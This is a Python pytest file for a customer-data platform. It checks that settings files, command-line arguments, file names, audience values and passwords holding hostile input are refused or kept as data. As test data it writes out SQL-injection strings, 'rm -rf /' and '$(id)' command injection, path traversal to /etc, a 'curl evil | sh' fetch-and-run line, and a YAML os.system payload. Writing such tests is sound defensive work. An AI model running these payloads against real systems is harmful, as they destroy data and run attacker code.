"""Hostile values at every user-facing entry point are refused with a clear
error, or, where they are data, carried safely as data."""
import os
from datetime import date

import pytest
import yaml

from c360.access import BI, LOADER, ROLES
from c360.activation.audiences import load_definitions, parse_audience
from c360.activation.rules import ContactRules
from c360.activation.sync import sync_audience
from c360.cli import main
from c360.config import Workspace
from c360.extract.files import extract_files
from c360.imports import TransactionsImport
from c360.sources import SourceConfigError, load_sources, register_import
from c360.untrusted import UnsafeValue
from c360.warehouse import open_warehouse
from conftest import query, required_passwords
from fixtures import seed_audience_inputs

INJECTION = "x'); drop table marts.dim_customers; --"


@pytest.fixture
def workspace_at(tmp_path, monkeypatch):
    """A workspace of its own, for writing hostile settings files."""
    monkeypatch.setenv("C360_HOME", str(tmp_path))
    return Workspace(tmp_path)


def write_sources(workspace, sources) -> None:
    text = sources if isinstance(sources, str) else yaml.safe_dump(sources)
    workspace.sources_file.write_text(text)


GOOD_SOURCES = {
    "shop": {"kind": "postgres", "dsn_env": "SHOP_DSN"},
    "pos": {"kind": "files", "landing": "/data/pos"},
    "social": {"kind": "api", "base_url": "https://api.example.com/", "token_env": "SOCIAL_TOKEN"},
}


def test_real_sources_are_accepted(workspace_at):
    write_sources(workspace_at, GOOD_SOURCES)
    sources = load_sources(workspace_at)
    assert sources["social"]["base_url"] == "https://api.example.com"
    assert str(sources["pos"]["landing"]) == "/data/pos"


@pytest.mark.parametrize("sources, message", [
    ({"shop": {"kind": "postgres", "dsn_env": "SHOP_DSN; rm -rf /"}}, "name an environment variable"),
    ({"shop": {"kind": "postgres", "dsn_env": "$(id)"}}, "name an environment variable"),
    ({"shop": {"kind": "postgres", "dsn": "postgresql://shop:" + "hunter2@db/shop"}}, "takes exactly"),
    ({"pos": {"kind": "files", "landing": "../../etc"}}, "absolute path"),
    ({"pos": {"kind": "files", "landing": "/data/pos/../../etc"}}, "without '..'"),
    ({"social": {"kind": "api", "base_url": "file:///etc/passwd", "token_env": "T"}}, "https:// URL"),
    ({"social": {"kind": "api", "base_url": "http://api.example.com", "token_env": "T"}}, "http:// only for localhost"),
    ({"social": {"kind": "api", "base_url": "https://evil.example.com", "token_env": "C360_WAREHOUSE_DSN"}},
     "secret of c360, Airflow or PostgreSQL"),
    ({"shop": {"kind": "postgres", "dsn_env": "PGPASSWORD"}}, "secret of c360, Airflow or PostgreSQL"),
    ({"social": {"kind": "api", "base_url": "https://u:" + "pw@api.example.com", "token_env": "T"}}, "credentials"),
    ({"social": {"kind": "api", "base_url": "https://api.example.com/\r\nHost: evil", "token_env": "T"}},
     "control characters"),
    ({"social": {"kind": "api", "base_url": "https://api.example.com/?token=abc", "token_env": "T"}}, "base URL only"),
    ({"social": {"kind": "shell", "command": "curl evil | sh"}}, "needs kind"),
    ({"social": {"kind": "simulated", "extra": "'; drop"}}, "needs kind"),
    ({INJECTION: {"kind": "simulated"}}, "unknown channel"),
    ("shop: [unclosed", "not valid YAML"),
    ("- shop\n- pos\n", "expected a mapping"),
    ("shop: !!python/object/apply:os.system ['id']", "not valid YAML"),
])
def test_hostile_source_settings_are_refused(workspace_at, sources, message):
    write_sources(workspace_at, sources)
    with pytest.raises(SourceConfigError, match=message):
        load_sources(workspace_at)


@pytest.mark.parametrize("sources", [
    {"shop": {"kind": "postgres", "dsn_env": "postgresql://shop:" + "s3cretpw@db/shop"}},
    {"social": {"kind": "api", "base_url": "https://api.example.com/?access_token=s3cretpw", "token_env": "T"}},
    {"social": {"kind": "api", "base_url": "https://u:" + "s3cretpw@api.example.com /", "token_env": "T"}},
    {"shop": {"kind": "postgres", "dsn": "postgresql://shop:" + "s3cretpw@db/shop"}},
    {"shop": {"kind": "mysql", "password": "s3cretpw"}},
])
def test_a_refused_setting_is_never_repeated_in_the_error(workspace_at, sources):
    write_sources(workspace_at, sources)
    with pytest.raises(SourceConfigError) as failure:
        load_sources(workspace_at)
    assert "s3cretpw" not in str(failure.value)


def spec(tmp_path, **overrides) -> TransactionsImport:
    return TransactionsImport(**{"source": "mine", "path": tmp_path / "tx.csv", "customer_id": "Customer",
                                 "ordered_at": "Date", "amount": "Total", **overrides})


def test_registering_an_import_fills_an_empty_imports_entry(workspace_at, tmp_path):
    write_sources(workspace_at, "pos: {kind: simulated}\nimports:\n")
    sources = register_import(workspace_at, spec(tmp_path))
    assert set(sources["imports"]) == {"mine"} and sources["pos"] == {"kind": "simulated"}


def test_registering_an_import_never_writes_a_file_that_does_not_load(workspace_at, tmp_path):
    bad = "pos: {kind: files, landing: ../etc}\n"
    write_sources(workspace_at, bad)
    with pytest.raises(SourceConfigError, match="absolute path"):
        register_import(workspace_at, spec(tmp_path))
    assert workspace_at.sources_file.read_text() == bad


@pytest.mark.parametrize("date_format", [17, ["%d"], "dd/mm/yyyy", "%d\n%m"])
def test_a_date_format_that_is_not_strftime_text_is_refused_when_registered(tmp_path, date_format):
    with pytest.raises(ValueError, match="strftime directives"):
        spec(tmp_path, date_format=date_format)


def test_run_refuses_bad_settings_before_touching_anything(workspace_at, capsys):
    write_sources(workspace_at, {"pos": {"kind": "files", "landing": "../../etc"}})
    assert main(["run", "--as-of", "2026-06-30"]) == 2
    assert "absolute path" in capsys.readouterr().err
    assert not (workspace_at.home / "logs").exists()  # no DAG ran


def test_audience_files_that_would_build_python_objects_are_refused(workspace_at):
    (workspace_at.home / "audiences.yml").write_text("audiences: !!python/object/apply:os.system ['id']\n")
    with pytest.raises(ValueError, match="not plain YAML"):
        load_definitions(workspace_at)


@pytest.mark.parametrize("argv, message", [
    (["run", "--as-of", "2026-06-30'; drop table raw.shop_orders; --"], "is not a date"),
    (["run", "--customers", "-5"], "must be at least 1"),
    (["simulate", "--days", "0"], "must be at least 1"),
    (["simulate", "--customers", "10; rm -rf /"], "is not a whole number"),
    (["simulate", "--seed", "1 or 1=1"], "invalid int value"),
    (["ui", "--port", "99999"], "not a TCP port"),
    (["warehouse", "dsn", "--role", "bi; drop role c360_bi"], "invalid choice"),
    (["warehouse", "../../etc/passwd"], "invalid choice"),
])
def test_hostile_command_line_arguments_are_refused(argv, message, capsys):
    with pytest.raises(SystemExit) as exit_:
        main(argv)
    assert exit_.value.code == 2
    assert message in capsys.readouterr().err


def test_a_pos_file_linked_from_outside_the_landing_folder_is_refused(fresh_warehouse, tmp_path):
    landing = tmp_path / "landing"
    (landing / "S1").mkdir(parents=True)
    secret = tmp_path / "outside.csv"
    secret.write_text("receipt_id\nnot yours\n")
    (landing / "S1" / "pos_S1_2026-06-30.csv").symlink_to(secret)
    with pytest.raises(UnsafeValue, match="leads outside"):
        extract_files(fresh_warehouse.as_role(LOADER), "pos", landing, date(2026, 6, 30))
    assert query(fresh_warehouse, "select count(*) from ops.batches") == [(0,)]


def test_a_hostile_file_name_is_kept_as_data(fresh_warehouse, tmp_path):
    name = f"pos_S1_{INJECTION}_2026-06-30.csv"
    (tmp_path / name).write_text(
        "receipt_id,store_id,purchased_at,member_card_no,phone,total_amount,transaction_type,original_receipt_id\n"
        "R1,S1,2026-06-30T10:00:00Z,M1,,12.50,sale,\n"
    )
    [result] = extract_files(fresh_warehouse.as_role(LOADER), "pos", tmp_path, date(2026, 6, 30))
    assert result.rows_loaded == 1
    assert query(fresh_warehouse, "select _source_file from raw.pos_receipts") == [(name,)]
    assert query(fresh_warehouse, "select file_name from ops.file_manifest") == [(name,)]


def test_a_hostile_audience_value_is_only_compared_never_run(fresh_warehouse, workspace):
    day = date(2026, 3, 1)
    seed_audience_inputs(fresh_warehouse, [("c1", True, "at_risk", 9, "h1")], day)
    audience = parse_audience({"name": "hostile", "where": {"lifecycle_stage": {"eq": INJECTION}}})
    result = sync_audience(fresh_warehouse, workspace, audience, day, ContactRules())
    assert result.in_audience == 0
    assert query(fresh_warehouse, "select count(*) from marts.dim_customers") == [(1,)]


def test_a_hostile_role_password_is_just_a_password(warehouse):
    hostile = "p'; drop role c360_loader; --\"$$ \\"
    with required_passwords(warehouse):
        os.environ[BI.password_env] = hostile
        warehouse.bootstrap()
        assert query(open_warehouse(role=BI), "select current_user") == [(BI.name,)]
        names = {n for n, in query(warehouse, "select rolname from pg_roles")}
        assert {role.name for role in ROLES} <= names
    warehouse.bootstrap()  # back to the session's passwords (none)
